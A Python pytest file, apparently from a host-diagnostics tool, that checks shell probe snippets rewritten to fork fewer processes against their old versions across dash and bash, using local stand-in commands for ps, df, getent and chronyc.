"""Sections rewritten to fork fewer processes (issue 16) give the facts their previous snippets gave: the old and the
new snippet run on the same inputs (stand-in commands, files under a temporary root) under dash, `bash --posix`
and bash, and the facts parsed from each are compared."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from testbed.shells import extra_shells

from bkdoctor.facts import host
from bkdoctor.facts.host import HostFacts
from bkdoctor.facts.probe import build_script, parse_output
from bkdoctor.model import FactUnavailable, T

# BKDOCTOR_TEST_SH=name=/path[,...] adds shells (a bash 4.2 built from its source, CentOS 7's: README, Performance;
# a path whose file name is `sh` starts bash in POSIX mode, as /bin/sh does)
SHELLS = [["dash"], ["bash", "--posix"], ["bash"], *([p] for p in extra_shells().values())]
SHELL_IDS = ["dash", "bash-posix", "bash", *extra_shells()]

# the snippets before the change, as they were
OLD = {
    "processes": (
        "if command -v ps >/dev/null 2>&1; then "
        "ps -eo stat=,comm= | awk '$1 !~ /^Z/ {print $2}' | sort -u; "
        "else cat /proc/[0-9]*/comm 2>/dev/null | sort -u; fi"
    ),
    "df": "t df -P -k / /data",
    "df_data": "test -d /data || return 3; t df -P -k /data",
    "localtime_link": "readlink /etc/localtime",
    "localtime_sum": "cksum /etc/localtime /usr/share/zoneinfo/Asia/Shanghai",
    "selinux_enforce": "__bkd_cat /sys/fs/selinux/enforce",
    "timezone_file": "__bkd_rd /etc/timezone",
    "firewalld_wants": (
        "for d in /etc/systemd/system/multi-user.target.wants/ /etc/systemd/system/basic.target.wants/; do "
        '[ -d "$d" ] && [ -r "$d" ] && [ -x "$d" ] || { ls -1 /etc/systemd/system/multi-user.target.wants/ '
        "/etc/systemd/system/basic.target.wants/; return; }; done; "
        "s=; for d in /etc/systemd/system/basic.target.wants/ /etc/systemd/system/multi-user.target.wants/; do "
        '[ -z "$s" ] || echo; s=1; printf \'%s:\\n\' "$d"; '
        'for e in "$d"*; do if [ -e "$e" ] || [ -h "$e" ]; then printf \'%s\\n\' "${e#"$d"}"; fi; done; done'
    ),
}


def _old_data_disk(f: HostFacts):
    """p_data_disk before the change, as it was."""
    s = f.sec("df_data")
    if s.rc == 3:
        return None
    if not s.ok:
        raise FactUnavailable(T("", f"df /data failed: {s.text().strip()[:200]}"))
    d = host.parse_df(s.text())
    if not d:
        raise FactUnavailable(T("", "cannot parse the output of df /data"))
    return d[0]


def run(
    shell, sections: dict[str, str], bindir: Path, subst: dict[str, str], params: dict[str, str] | None = None
) -> dict:
    """The probe of these sections (name -> snippet), the commands on PATH only those in `bindir`, the paths in
    `subst` moved under the test's directory; `params`: the probe's BKD_* parameters."""
    saved = dict(host.SECTIONS)
    host.SECTIONS.update(sections)
    try:
        script, nonce = build_script(set(sections), params=params, shell=(shutil.which(shell[0]), *shell[1:]))
    finally:
        host.SECTIONS.clear()
        host.SECTIONS.update(saved)
    keep = {
        m: f"@KEEP{i}@" for i, m in enumerate((host._SAME_TZ, host._DATA_DIR, host._PS_HEADER, host._STAT_HEADER))
    }  # printed as is
    for m, k in keep.items():
        script = script.replace(m, k)
    for a, b in subst.items():
        script = script.replace(a, b)
    for m, k in keep.items():
        script = script.replace(k, m)
    # before the first section, in the probe's shell or (host.BOUNDED) its bounded group's
    first = min(i for i in (script.find("printf '\\n@@BKD-"), script.find("__bkd_g=")) if i >= 0)
    script = script[:first] + f"PATH='{bindir}'; export PATH\n" + script[first:]
    out = subprocess.run([*shell, "-s"], input=script.encode(), capture_output=True, timeout=60).stdout
    return parse_output(out, nonce)


def outcome(fn):
    """A fact's value, or its error's English message with the shell's line numbers taken out."""
    try:
        return fn()
    except FactUnavailable as e:
        return ("unavailable", re.sub(r": (line )?\d+: ", ": N: ", str(e)))


def stand_in(bindir: Path, name: str, body: str) -> None:
    p = bindir / name
    if p.is_symlink():  # tools' link to the real command: writing through it would replace that command
        p.unlink()
    p.write_text("#!/bin/sh\n" + body)
    p.chmod(0o755)


def tools(tmp_path: Path, *names: str) -> Path:
    """A directory of the commands the probe may run here (timeout: the prelude's `t` found it on the usual PATH)."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    for n in ("timeout", *names):
        real = shutil.which(n)
        assert real, n
        os.symlink(real, bindir / n)
    return bindir


def same(fact: str, old: dict, new: dict, other: dict | None = None):
    """The fact from the old sections and from the new ones (with the same `other` sections), compared; the old."""
    want = outcome(lambda: HostFacts({**old, **(other or {})}).get(fact))
    assert outcome(lambda: HostFacts({**new, **(other or {})}).get(fact)) == want
    return want


# -- processes: `ps` alone, not `ps | awk | sort -u` ------------------------------------------------------------
PS_OUTPUTS = {
    "plain": ("Ss   systemd\nS    firewalld\nSsl  chronyd\nR+   ps\n", 0),
    "zombies": ("Z    firewalld\nZs   ntpd\nS    chronyd\nZl   defunct-only\n", 0),
    "odd-names": ("S    tmux: server\nS\tsystemd-timesyn\n  S   lead\nSl   a\x0bb\nS    \nS\n\nS    x\x1cy\n", 0),
    "empty": ("", 0),
    "fails": ("S    chronyd\n", 1),
    "killed": ("", 137),
}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", sorted(PS_OUTPUTS))
def test_processes_one_ps_gives_the_names_of_ps_awk_sort(tmp_path, shell, case):
    out, rc = PS_OUTPUTS[case]
    b = tools(tmp_path, "awk", "sort", "cat")
    (tmp_path / "ps.out").write_bytes(out.encode())
    stand_in(b, "ps", f"cat '{tmp_path}/ps.out'; exit {rc}\n")
    old = run(shell, {"processes": OLD["processes"]}, b, {})
    # the ps branch (no readable /proc/self/stat): here ps is the stand-in
    ps_branch = host.SECTIONS["processes"].replace("[ -r /proc/self/stat ]", "false")
    assert ps_branch != host.SECTIONS["processes"]
    new = run(shell, {"processes": ps_branch}, b, {})
    assert old["processes"].rc == new["processes"].rc == 0
    want = set(old["processes"].text().split())  # the parsers read the words of the old section
    assert host._process_names(HostFacts(new)) == want
    assert host._process_names(HostFacts(old)) == want  # a bundle of an older bkdoctor reads the same
    # the facts that read the names
    other = {s: host.Section(s, 127, b"") for s in host.FACTS["firewalld"] + host.FACTS["time_sync"]}
    other["systemd_running"] = host.Section("systemd_running", 0, b"no\n")
    del other["processes"]
    for fact in ("firewalld", "time_sync"):
        same(fact, old, new, other)


def test_processes_without_ps_reads_proc_as_before():
    """The branch without ps is the old one, word for word (its output is /proc's, which changes between runs)."""
    fallback = "else cat /proc/[0-9]*/comm 2>/dev/null | sort -u; fi"
    assert OLD["processes"].endswith(fallback) and host.SECTIONS["processes"].endswith(fallback)


# -- df: one `df / /data` for `resources` and `data_disk` -------------------------------------------------------
# a stand-in GNU df -P -k: the header when there is a row, a row per operand in their order, a message per failure
DF = r"""[ -z "$DF_RC" ] || exit "$DF_RC"  # killed: nothing printed (df prints its table at the end)
shift 2; rows=; err=; rc=0
for p in "$@"; do
  case " $DF_FAIL " in *" $p "*) err="$err$(printf 'df: %s: Permission denied' "$p")
"; rc=1; continue;; esac
  if [ -e "$p" ]; then rows="$rows$(printf '/dev/vd%s 104857600 %s 104856600 1%% %s' "${#p}" "${#p}" "$p")
"; else err="$err$(printf 'df: %s: No such file or directory' "$p")
"; rc=1; fi
done
[ -z "$rows" ] || printf 'Filesystem 1024-blocks Used Available Capacity Mounted on\n%s' "$rows"
[ -z "$err" ] || printf '%s' "$err" >&2
exit $rc
"""


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", ["both", "no-data", "data-a-file", "data-fails", "root-fails", "killed", "no-df"])
def test_df_once_gives_the_disks_and_data_disk_of_two(tmp_path, shell, case):
    b = tools(tmp_path, "cat")
    data = tmp_path / "data"
    env_fail = {"data-fails": str(data), "root-fails": "/"}.get(case, "")
    if case != "no-df":
        stand_in(b, "df", f"DF_FAIL='{env_fail}'; DF_RC='{124 if case == 'killed' else ''}'\n" + DF)
    if case == "data-a-file":
        data.write_text("")
    elif case != "no-data":
        data.mkdir()
    subst = {"-k / /data": f"-k / {data}", "-k /data": f"-k {data}", "-d /data": f"-d {data}"}
    old_secs = {k: OLD[k] for k in ("df", "df_data")}
    old = run(shell, old_secs, b, subst)
    new = run(shell, {"df": host.SECTIONS["df"]}, b, subst)
    other = {s: host.Section(s, 0, b"4\n") for s in ("cpuinfo", "nproc")} | {
        "meminfo": host.Section("meminfo", 0, b"MemTotal: 1000 kB\n")
    }
    same("resources", old, new, other)
    want = outcome(lambda: _old_data_disk(HostFacts(old)))
    got = outcome(lambda: HostFacts(new).data_disk)
    if case == "root-fails":  # statfs("/") failing: the row of /data alone is not told from the row of /
        assert want != got and got[0] == "unavailable"
        return
    if case == "no-df":  # the shell says so in the bounded group (its `t` runs df directly), not timeout
        assert want[0] == got[0] == "unavailable" and "df" in got[1] and "not found" in got[1], got
        return
    assert got == want
    assert outcome(lambda: HostFacts(old).data_disk) == want  # a bundle of an older bkdoctor reads the same


# -- timezone: readlink only for a link, cksum only for a copy ----------------------------------------------------
@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize(
    "case", ["link-shanghai", "link-utc", "copy-shanghai", "copy-utc", "hardlink", "absent", "dangling", "no-zoneinfo"]
)
def test_localtime_link_and_sum_give_the_same_timezone(tmp_path, shell, case):
    b = tools(tmp_path, "readlink", "cksum", "cat", "date")
    zi = tmp_path / "usr/share/zoneinfo"
    (zi / "Asia").mkdir(parents=True)
    if case != "no-zoneinfo":
        (zi / "Asia/Shanghai").write_bytes(b"TZif2 shanghai\x00\x01")
    (zi / "UTC").write_bytes(b"TZif2 utc\x00")
    etc = tmp_path / "etc"
    etc.mkdir()
    lt = etc / "localtime"
    target = {"link-shanghai": "../usr/share/zoneinfo/Asia/Shanghai", "link-utc": "../usr/share/zoneinfo/UTC"}
    if case in target:
        os.symlink(target[case], lt)
    elif case == "dangling" or case == "no-zoneinfo":
        os.symlink("../usr/share/zoneinfo/Nowhere" if case == "dangling" else "../usr/share/zoneinfo/Asia/Shanghai", lt)
    elif case == "copy-shanghai":
        lt.write_bytes((zi / "Asia/Shanghai").read_bytes())
    elif case == "copy-utc":
        lt.write_bytes((zi / "UTC").read_bytes())
    elif case == "hardlink":
        os.link(zi / "Asia/Shanghai", lt)
    subst = {"/etc/localtime": str(lt), "/usr/share/zoneinfo/": f"{zi}/", "/etc/timezone": str(etc / "timezone")}
    fixed = {"timezone_file": host.SECTIONS["timezone_file"], "date_z": host.SECTIONS["date_z"]}
    old = run(
        shell, {**fixed, "localtime_link": OLD["localtime_link"], "localtime_sum": OLD["localtime_sum"]}, b, subst
    )
    new = run(
        shell,
        {**fixed, "localtime_link": host.SECTIONS["localtime_link"], "localtime_sum": host.SECTIONS["localtime_sum"]},
        b,
        subst,
    )
    assert old["localtime_link"].rc == new["localtime_link"].rc
    assert old["localtime_link"].out.replace(str(tmp_path).encode(), b"") == new["localtime_link"].out.replace(
        str(tmp_path).encode(), b""
    )

    def tz(secs):
        v = outcome(lambda: HostFacts(secs).timezone)
        if isinstance(v, tuple):
            return v
        return {k: (x.replace(str(tmp_path), "") if isinstance(x, str) else x) for k, x in v.items()}

    assert tz(new) == tz(old)


# -- selinux: no `cat` for an absent /sys/fs/selinux/enforce ------------------------------------------------------
@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", ["absent", "no-dir", "dangling", "enforcing", "permissive", "odd", "a-directory"])
def test_selinux_enforce_absent_is_disabled_without_cat(tmp_path, shell, case):
    b = tools(tmp_path, "cat")
    fs = tmp_path / "sys/fs/selinux"
    if case != "no-dir":
        fs.mkdir(parents=True)
    enforce = fs / "enforce"
    if case == "dangling":
        os.symlink("nowhere", enforce)
    elif case == "a-directory":
        enforce.mkdir()
    elif case in ("enforcing", "permissive", "odd"):
        enforce.write_text({"enforcing": "1", "permissive": "0", "odd": "2\n"}[case])
    subst = {"/sys/fs/selinux/enforce": str(enforce), "/etc/selinux/config": str(tmp_path / "config")}
    cfg = {"selinux_config": host.SECTIONS["selinux_config"]}
    old = run(shell, {**cfg, "selinux_enforce": OLD["selinux_enforce"]}, b, subst)
    new = run(shell, {**cfg, "selinux_enforce": host.SECTIONS["selinux_enforce"]}, b, subst)
    same("selinux", old, new)


# -- resources: no `grep -c processor /proc/cpuinfo` when the online file gives the count -------------------------
CPUS = {  # the online file (None: absent), /proc/cpuinfo's processors
    "ranges": ("0-3,8\n", 5),
    "one": ("0\n", 1),
    "absent": (None, 2),
    "odd": ("0-3,\n", 4),
    "empty": ("", 3),
    "no-processor-lines": (None, 0),
    "offline-listed": ("0-1\n", 4),  # not on x86 (cpuinfo lists the online CPUs): nproc's count is read, as before
}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", sorted(CPUS))
def test_cpuinfo_count_without_grep_gives_the_same_cpus(tmp_path, shell, case):
    online, n = CPUS[case]
    b = tools(tmp_path, "grep", "cat", "getconf")
    if online is not None:
        (tmp_path / "online").write_text(online)
    (tmp_path / "cpuinfo").write_text("".join(f"processor\t: {i}\nmodel name\t: x\n\n" for i in range(n)))
    subst = {"/sys/devices/system/cpu/online": str(tmp_path / "online"), "/proc/cpuinfo": str(tmp_path / "cpuinfo")}
    nproc = {"nproc": host.SECTIONS["nproc"]}
    old = run(shell, {**nproc, "cpuinfo": "grep -c '^processor' /proc/cpuinfo"}, b, subst)
    new = run(shell, {**nproc, "cpuinfo": host.SECTIONS["cpuinfo"]}, b, subst)
    other = {"meminfo": host.Section("meminfo", 0, b"MemTotal: 1000 kB\n"), "df": host.Section("df", 0, b"")}
    same("resources", old, new, other)
    # a probe cut off before `nproc`: the count of cpuinfo's processors, which x86 lists as the online CPUs
    del old["nproc"], new["nproc"]
    if case != "offline-listed":
        same("resources", old, new, other)


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", ["absent", "dangling", "zone", "empty", "a-directory"])
def test_timezone_file_absent_without_cat(tmp_path, shell, case):
    b = tools(tmp_path, "cat", "date")
    tz = tmp_path / "timezone"
    if case == "dangling":
        os.symlink("nowhere", tz)
    elif case == "a-directory":
        tz.mkdir()
    elif case in ("zone", "empty"):
        tz.write_text("Asia/Shanghai\n" if case == "zone" else "")
    subst = {"/etc/timezone": str(tz), "/etc/localtime": str(tmp_path / "localtime")}
    fixed = {k: host.SECTIONS[k] for k in ("localtime_link", "localtime_sum", "date_z")}
    old = run(shell, {**fixed, "timezone_file": OLD["timezone_file"]}, b, subst)
    new = run(shell, {**fixed, "timezone_file": host.SECTIONS["timezone_file"]}, b, subst)
    same("timezone", old, new)


# -- date_z: the offset from the clock sample's own `date` (the SSH preamble), `date +%z` only without it -----------
@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("tz", ["Asia/Shanghai", "UTC", "America/St_Johns", "Asia/Kathmandu", "<+0545>-5:45", ""])
@pytest.mark.parametrize("preamble", ["clock", "plain", "garbage"])
def test_date_z_from_the_clock_samples_date_gives_what_date_gives(tmp_path, shell, tz, preamble):
    import time

    from bkdoctor.transport import ssh

    pre = {
        "clock": ssh._PGID_CLOCK_PREAMBLE,
        "plain": ssh._PGID_PREAMBLE,
        "garbage": "__bkd_tz='+08:00 x'\n",  # not an offset as %z prints it: `date +%z` runs
    }[preamble]
    script, nonce = build_script({"date_z"})
    env = {**os.environ, "TZ": tz} if tz else {k: v for k, v in os.environ.items() if k != "TZ"}
    t0 = time.time()
    r = subprocess.run([*shell, "-s"], input=(pre + script).encode(), capture_output=True, env=env, timeout=30)
    t1 = time.time()
    want = subprocess.run(["date", "+%z"], capture_output=True, env=env).stdout
    got = parse_output(r.stdout, nonce)["date_z"]
    assert (got.rc, got.out) == (0, want), (got, want)
    if preamble == "clock":  # the sample itself: the epoch with its nanoseconds, as `date -u +%s.%N` gave it
        m = ssh._PGID_LINE.search(r.stderr)
        assert m and t0 - 1 < float(m.group(2)) < t1 + 1, r.stderr
        assert re.fullmatch(rb"\d+\.\d{9}", m.group(2)), m.group(2)


# -- time_sync: ntpstat and timedatectl only when chronyc gave no sync state ------------------------------------------
CHRONYC = {
    "normal": (
        "Stratum         : 3\nSystem time     : 0.000012 seconds fast of NTP time\nLeap status     : Normal\n",
        0,
    ),
    "unsynced": ("Leap status     : Not synchronised\n", 0),
    "tabs-crlf": ("Leap status\t:\tNormal\r\n", 0),
    "daemon-down": ("506 Cannot talk to daemon\n", 1),
    "fails-with-leap": ("Leap status : Normal\n", 1),
    "no-leap": ("Stratum : 3\n", 0),
    "empty-after-colon": ("Leap status :\nfoo\n", 0),
    "not-a-blank": ("Leap statusX : Normal\n", 0),
    "indented": ("  Leap status : Normal\n", 0),
    "blank-lines": ("Stratum : 3\n\n\nLeap status : Normal\n", 0),
    # a glob character (no chronyc prints one): the lines are not split (the split would glob them), no sync state
    "glob-character": ("Reference ID    : 7F7F0101 (*)\nLeap status     : Normal\n", 0),
    "empty": ("", 0),
    "killed": ("", 137),
    "absent": None,
}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", list(CHRONYC))
@pytest.mark.parametrize("ntpstat", [True, False], ids=["ntpstat", "no-ntpstat"])
def test_time_sync_skips_ntpstat_and_timedatectl_when_chronyc_answered(tmp_path, shell, case, ntpstat):
    b = tools(tmp_path, "cat")
    log = tmp_path / "ran"
    if CHRONYC[case] is not None:
        out, rc = CHRONYC[case]
        stand_in(b, "chronyc", f"printf '%s' '{out}'; exit {rc}\n")
    if ntpstat:
        stand_in(b, "ntpstat", f"echo ntpstat >>'{log}'; echo 'unsynchronised'; exit 1\n")
    stand_in(b, "timedatectl", f"echo timedatectl >>'{log}'; echo '      NTP synchronized: yes'\n")
    old = {
        "chronyc_tracking": "command -v chronyc >/dev/null 2>&1 || return 127; t chronyc -n tracking",
        "ntpstat": "command -v ntpstat >/dev/null 2>&1 || return 127; t ntpstat",
        "timedatectl": "t timedatectl status",
    }
    new = {k: host.SECTIONS[k] for k in old}
    other = {
        "processes": host.Section("processes", 0, b"# ps -eo stat=,comm=\nS chronyd\n"),
        "systemd_running": host.Section("systemd_running", 0, b"yes\n"),
    }
    before = run(shell, old, b, {})
    log.unlink(missing_ok=True)
    got = run(shell, new, b, {})
    want = same("time_sync", before, got, other)
    ran = log.read_text().split() if log.exists() else []
    answered = case in ("normal", "unsynced", "tabs-crlf", "blank-lines")
    assert want != ("unavailable",) and (ran == [] if answered else "timedatectl" in ran), (want, ran)
    assert (got["timedatectl"].rc == 4) == answered


# -- getent_hosts in the probe's shell, its fallback in a helper's subshell: the same names, the same addresses -------
# the snippet before: the same batch, `exit` (it ran in a subshell), the fallback loop in the section itself
OLD_GETENT_LOOP = (
    "while [ $# -gt 1 ]; do f=$1; n=$2; shift 2; "
    '( r=; [ -n "$f" ] || { r=$(timeout 3 getent ahostsv4 "$n" 2>/dev/null); r=${r%%"$nl"*}; }; '
    '[ -n "$r" ] || { r=$(timeout 3 getent hosts "$n" 2>/dev/null); r=${r%%"$nl"*}; }; '
    'printf \'%s %s\\n\' "$n" "${r%% *}" ) & done; wait'
)
# the batch's parse before it was one pass over the lines (a pattern over the whole output per line: ~20 M
# instructions in bash 4.2 for 6 names), as it was
OLD_GETENT_PARSE = (
    "command -v getent >/dev/null 2>&1 || return 127; nl='\n'; s=0.0.0.0; set --; "
    'for n in $BKD_HOSTS_NAMES; do [ "$n" = $s ] || set -- "$@" "$n" $s; done; r=; if [ $# -gt 0 ]; '
    'then r=$(exec timeout -k 1 3 getent ahostsv4 "$@" 2>/dev/null); case $? in 0|2) ;; '
    '*) case "$r" in *"$nl"*) r=${r%"$nl"*};; *) r=;; esac;; esac; fi; set --; '
    'for n in $BKD_HOSTS_NAMES; do a=; f=; if [ "$n" != $s ]; then while [ -n "$r" ]; do l=${r%%"$nl"*}; '
    'case "$r" in *"$nl"*) r=${r#*"$nl"};; *) r=;; esac; case "$l" in "$s "*" $s") f=1; break;; '
    '*" "|"") ;; *) [ -n "$a" ] || a=${l%% *};; esac; done; fi; if [ -n "$a" ] && [ -n "$f" ]; '
    'then printf \'%s %s\\n\' "$n" "$a"; else set -- "$@" "$f" "$n"; fi; done; [ $# -lt 2 ] || __bkd_gf "$@"'
)
OLD_GETENT = OLD_GETENT_PARSE.replace("|| return 127;", "|| exit 127;", 1).replace(
    '[ $# -lt 2 ] || __bkd_gf "$@"', OLD_GETENT_LOOP, 1
)
assert "exit 127" in OLD_GETENT and "& done; wait" in OLD_GETENT and "__bkd_gf" not in OLD_GETENT
# glibc's getent as it prints: ahostsv4 three lines a key (the first with the canonical name), the numeric sentinel
# answered without a lookup, exit 2 when a key is not found; `hosts` one line
GETENT = r"""db=$1; shift; rc=0
[ -z "$HANG" ] || [ $# -lt 2 ] || sleep 5
for k in "$@"; do
  case "$db:$k" in
    ahostsv4:0.0.0.0) printf '0.0.0.0         STREAM 0.0.0.0\n0.0.0.0         DGRAM  \n0.0.0.0         RAW    \n';;
    ahostsv4:a.example|ahostsv4:B.example) printf '10.0.0.1        STREAM %s\n10.0.0.1        DGRAM  \n10.0.0.1        RAW    \n' "$k";;
    ahostsv4:multi.example) printf '10.0.0.2        STREAM multi.example\n10.0.0.2        DGRAM  \n10.0.0.2        RAW    \n'
      printf '10.0.0.3        STREAM \n10.0.0.3        DGRAM  \n10.0.0.3        RAW    \n';;
    ahostsv4:glob.example) printf '10.0.0.4        STREAM g*b[1]?.example\n10.0.0.4        DGRAM  \n10.0.0.4        RAW    \n';;
    hosts:a.example|hosts:B.example) printf '10.0.0.1        %s\n' "$k";;
    hosts:v6.example) printf 'fd00::1         v6.example\n';;
    *) rc=2;;
  esac
done
exit $rc
"""


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize(
    "case",
    [
        "all-resolve",
        "v6-and-unknown",
        "batch-hangs",
        "no-names",
        "sentinel-as-name",
        "no-getent",
        "two-addresses",
        "glob-in-a-name",
    ],
)
def test_getent_hosts_inline_resolves_the_same_names(tmp_path, shell, case):
    b = tools(tmp_path, "sleep")
    # a canonical name with glob characters: the batch's output is not split (the split would glob each whole line
    # against the probe's directory: no address could change, as every match starts with the line's own, but the
    # directory is not the probe's to read), every name is looked up alone by the fallback: the same answers
    if case != "no-getent":
        stand_in(b, "getent", ("HANG=1\n" if case == "batch-hangs" else "HANG=\n") + GETENT)
    names = {
        "all-resolve": "a.example B.example",
        "v6-and-unknown": "a.example v6.example nowhere.example",
        "batch-hangs": "a.example v6.example nowhere.example",
        "no-names": "",
        "sentinel-as-name": "a.example 0.0.0.0 v6.example",
        "no-getent": "a.example",
        "two-addresses": "multi.example a.example nowhere.example B.example",
        "glob-in-a-name": "a.example glob.example B.example",
    }[case]
    subst = {"$BKD_HOSTS_NAMES": "$__names", "# bkdoctor host probe": f"__names='{names}'\n# bkdoctor host probe"}
    old = run(shell, {"getent_hosts": OLD_GETENT}, b, subst)
    new = run(shell, {"getent_hosts": host.SECTIONS["getent_hosts"]}, b, subst)
    want = same("resolved", old, new)
    assert old["getent_hosts"].rc == new["getent_hosts"].rc
    if case == "v6-and-unknown":
        assert want == {"a.example": "10.0.0.1", "v6.example": "fd00::1", "nowhere.example": None}
    if case == "two-addresses":
        assert want == {
            "multi.example": "10.0.0.2",
            "a.example": "10.0.0.1",
            "nowhere.example": None,
            "b.example": "10.0.0.1",
        }
    if case == "glob-in-a-name":
        assert want == {"a.example": "10.0.0.1", "glob.example": "10.0.0.4", "b.example": "10.0.0.1"}


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
def test_the_line_splits_leave_ifs_as_they_found_it(tmp_path, shell):
    """getent_hosts and chronyc_tracking split their outputs at newlines through IFS: the next section in the probe's
    shell (id) and in the bounded group (firewalld_active's place) see the shell's IFS, space, tab and newline."""
    b = tools(tmp_path, "od")
    stand_in(b, "getent", "HANG=\n" + GETENT)
    stand_in(b, "chronyc", "printf 'Stratum : 3\\nLeap status : Normal\\n'\n")
    show = "printf 'IFS=%s|' \"$IFS\" | od -An -c"
    out = run(
        shell,
        {
            "getent_hosts": host.SECTIONS["getent_hosts"],
            "chronyc_tracking": host.SECTIONS["chronyc_tracking"],
            "id": show,
            "firewalld_active": show,
        },
        b,
        {},
        params={"BKD_HOSTS_NAMES": "a.example B.example"},
    )
    assert out["getent_hosts"].text() == "a.example 10.0.0.1\nB.example 10.0.0.1\n", out["getent_hosts"]
    assert out["chronyc_tracking"].rc == 0 and b"Leap status" in out["chronyc_tracking"].out
    for name in ("id", "firewalld_active"):
        assert out[name].text().split() == ["I", "F", "S", "=", "\\t", "\\n", "|"], (name, out[name])


# -- registry: the `test -d` on the registry's data (maybe a network mount) runs under `t`, not in the probe's shell --
_NEW_CACHED = (
    '{ t test -d "$BKD_REGISTRY_DATA/docker/registry/v2/repositories/$BKD_REGISTRY_REPO/_manifests"; } 2>/dev/null; '
    "case $? in 0) echo 'cached yes';; 1) echo 'cached no';; esac"
)
_OLD_CACHED = (
    'if [ -d "$BKD_REGISTRY_DATA/docker/registry/v2/repositories/$BKD_REGISTRY_REPO/_manifests" ]; '
    "then echo 'cached yes'; else echo 'cached no'; fi"
)
assert host.SECTIONS["registry_http"].endswith(_NEW_CACHED)
OLD["registry_http"] = host.SECTIONS["registry_http"][: -len(_NEW_CACHED)] + _OLD_CACHED


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
@pytest.mark.parametrize("case", ["cached", "not-cached", "no-data-dir", "a-file", "no-repo", "unreadable", "hang"])
def test_registry_cached_under_t_gives_the_same_registry_fact(tmp_path, shell, case):
    b = tools(tmp_path, *(() if case == "hang" else ("test",)))  # never a stand-in written through tools' symlink
    stand_in(b, "curl", "printf '200 0.012'\n")
    data = tmp_path / "registry"
    repo = "" if case == "no-repo" else "library/nginx"
    if case != "no-data-dir":
        (data / "docker/registry/v2/repositories/library").mkdir(parents=True)
    m = data / "docker/registry/v2/repositories/library/nginx/_manifests"
    if case in ("cached", "unreadable"):
        m.mkdir(parents=True)
    elif case == "a-file":
        m.parent.mkdir(parents=True)
        m.write_text("")
    if case == "unreadable":
        m.parent.chmod(0)  # root searches it anyway: the same answer from both
    if case == "hang":  # a dead mount: the stand-in `test` hangs, `t` stops it (its limits shortened here)
        stand_in(b, "test", f"trap '' TERM; {shutil.which('sleep')} 30 & wait $!; wait $!\n")
    params = f"BKD_REGISTRY_PORT=5000; BKD_REGISTRY_UPSTREAM=http://u; BKD_REGISTRY_DATA='{data}'; "
    params += f"BKD_REGISTRY_REPO='{repo}'; BKD_REGISTRY_TAG=1; "
    subst = {"timeout -k 5 10 ": "timeout -k 1 1 "}
    other = {n: host.Section(n, 3, b"") for n in ("registry_config", "registry_storage")}
    new = run(shell, {"registry_http": params + host.SECTIONS["registry_http"]}, b, subst)
    if case == "hang":
        assert HostFacts({**new, **other}).registry["cached"] is None  # unknown: never "no", never a blocked probe
        return
    old = run(shell, {"registry_http": params + OLD["registry_http"]}, b, subst)
    want = same("registry", old, new, other)
    assert isinstance(want, dict), want
    assert want["cached"] == (case in ("cached", "unreadable")) if repo else want["cached"] is None, want


# -- processes: one `cat` of /proc/PID/stat, not `ps` ------------------------------------------------------------
_PID_NS_DRIVER = r"""
import ctypes, json, os, subprocess, sys, time
libc = ctypes.CDLL(None)
def named(name):  # a child whose comm is `name` (prctl PR_SET_NAME: any bytes but NUL, 15 at most)
    pid = os.fork()
    if pid == 0:
        libc.prctl(15, ctypes.c_char_p(name), 0, 0, 0)
        time.sleep(60)
        os._exit(0)
    return pid
for n in [b"firewalld", b"chronyd", b"tmux: server", b"a) Z b", b"x\n9 (y", b" lead", b"\tsystemd-timesyn"]:
    named(n)
z = os.fork()  # a zombie named ntpd: it exits, nobody reaps it while the probes run
if z == 0:
    libc.prctl(15, ctypes.c_char_p(b"ntpd"), 0, 0, 0)
    os._exit(0)
time.sleep(0.3)
out = {}
for key, script in json.loads(sys.argv[1]).items():
    out[key] = subprocess.run([sys.argv[2], "-s"], input=script.encode(), capture_output=True).stdout.decode("latin-1")
print(json.dumps(out))
"""


@pytest.mark.parametrize("shell", SHELLS, ids=SHELL_IDS)
def test_processes_from_proc_stat_are_the_names_ps_gave(tmp_path, shell):
    """In a PID namespace of its own (a fixed set of processes: odd names, a zombie), the old `ps | awk | sort -u`
    and the new `cat /proc/[0-9]*/stat` give the same names, bar the commands each runs to ask."""
    if not shutil.which("unshare"):
        pytest.skip("no unshare")
    scripts, nonces = {}, {}
    for key, snippet in (("old", OLD["processes"]), ("new", host.SECTIONS["processes"])):
        saved = dict(host.SECTIONS)
        host.SECTIONS["processes"] = snippet
        try:
            scripts[key], nonces[key] = build_script({"processes"})
        finally:
            host.SECTIONS.clear()
            host.SECTIONS.update(saved)
    assert "cat /proc/[0-9]*/stat" in scripts["new"] and "ps -eo" in scripts["old"]
    import json

    r = subprocess.run(
        ["unshare", "-p", "-f", "--mount-proc", sys.executable, "-c", _PID_NS_DRIVER, json.dumps(scripts)]
        + [shutil.which(shell[0])],
        capture_output=True,
        timeout=60,
    )
    assert r.returncode == 0, r.stderr[-500:]
    out = json.loads(r.stdout)
    got = {}
    for key in ("old", "new"):
        parsed = parse_output(out[key].encode("latin-1"), nonces[key])
        got[key] = host._process_names(HostFacts(parsed)) - {"ps", "awk", "sort", "cat", "sh", "dash", "bash"}
    # the same names, but those of a comm with a control character: ps shows it as `?` or `.` (by version; a tab
    # then is no blank to split on), /proc as it is
    odd = {"old": {n for n in got["old"] if n[1:] == "systemd-timesy" or n[:2] == "x" + n[1:2] and n[2:] == "9"}}
    odd["new"] = {"systemd-timesy", "x\n9"}
    assert len(odd["old"]) == 2 and odd["new"] <= got["new"], got
